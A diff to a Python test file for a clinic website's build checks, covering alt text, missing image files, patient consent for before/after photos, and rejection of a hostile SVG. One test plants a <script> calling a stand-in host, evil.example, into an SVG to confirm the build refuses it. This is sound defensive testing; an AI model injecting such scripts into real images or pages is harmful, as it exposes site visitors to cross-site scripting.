@@ -12,6 +12,7 @@ from PIL import Image
 from clinic_site import images
 from clinic_site.images import UnsafeSvg, check_svg, convert_photo
 from tests.support.sites import ROOT, build, replace_in
+from tests.support.small_site import line_of
 
 PEEL = "docs/treatments/chemical-peel.md"
 ILLUSTRATIONS = sorted((ROOT / "docs" / "images" / "illustrations").glob("*.svg"))
@@ -136,7 +137,7 @@ def test_an_image_without_alt_text_is_an_editor_error(project):
     replace_in(project / PEEL, "    alt: \"Diagram of the skin's layers", "    caption_: \"Diagram of the skin's layers")
     lines = failed_lines(project)
     assert (
-        f'{PEEL}, line 12: treatment.image.alt: this required field is missing. Accepted: what the picture shows, for people who cannot see it, e.g. "Cross-section of skin showing how deep light, medium and deep peels reach.".'
+        f"{PEEL}, line {line_of(project / PEEL, '  image:')}: treatment.image.alt: this required field is missing. Accepted: what the picture shows, for people who cannot see it, e.g. Cross-section of skin showing how deep light, medium and deep peels reach."
         in lines
     )
 
@@ -144,7 +145,7 @@ def test_an_image_without_alt_text_is_an_editor_error(project):
 def test_an_image_file_that_does_not_exist_is_an_editor_error(project):
     replace_in(project / PEEL, "file: images/illustrations/peel-depths.svg", "file: images/illustrations/peel-depth.svg")
     assert failed_lines(project) == [
-        f"{PEEL}, line 13: treatment.image.file: 'images/illustrations/peel-depth.svg' is not a file in docs/. "
+        f"{PEEL}, line {line_of(project / PEEL, 'peel-depth.svg')}: treatment.image.file: 'images/illustrations/peel-depth.svg' is not a file in docs/. "
         "Accepted: the path of a picture inside docs/, e.g. images/peel-depths.svg (SVG, PNG, JPEG or WebP)."
     ]
 
@@ -152,10 +153,10 @@ def test_an_image_file_that_does_not_exist_is_an_editor_error(project):
 def test_a_hostile_svg_is_refused_and_nothing_is_published(project):
     drawing = project / "docs/images/illustrations/peel-depths.svg"
     drawing.write_text(drawing.read_text().replace("<title>", '<script>fetch("https://evil.example")</script>\n  <title>', 1))
-    [line] = failed_lines(project)
+    [line] = failed_lines(project)  # every SVG in docs/ is checked before MkDocs reads any file
     assert line.startswith(
-        f"{PEEL}, line 13: treatment.image.file: docs/images/illustrations/peel-depths.svg, line 2, contains a <script> element. "
-        "Accepted: a plain SVG drawing: no scripts, event handlers (onload=...), links to other files"
+        "docs/images/illustrations/peel-depths.svg: image: the SVG image contains a <script> element. "
+        "Accepted: a plain drawing: no scripts, event attributes, embedded HTML or links to other files"
     )
     assert not (project / "site" / "index.html").exists()
 
@@ -181,9 +182,9 @@ def test_before_and_after_photos_need_consent_and_unretouched(project):
     replace_in(project / PEEL, "  image:\n", BEFORE_AFTER + "  image:\n")
     lines = failed_lines(project)
     assert lines == [
-        f"{PEEL}, line 13: treatment.before_after, item 1, patient_consent: this required field is missing. "
+        f"{PEEL}, line {line_of(project / PEEL, '    - before:')}: treatment.before_after, item 1, patient_consent: this required field is missing. "
         "Accepted: true, once the patient's written consent to publish these photos is on file, e.g. true.",
-        f"{PEEL}, line 13: treatment.before_after, item 1, unretouched: this required field is missing. "
+        f"{PEEL}, line {line_of(project / PEEL, '    - before:')}: treatment.before_after, item 1, unretouched: this required field is missing. "
         "Accepted: true: the photos are not retouched or filtered, only cropped, e.g. true.",
     ]
 
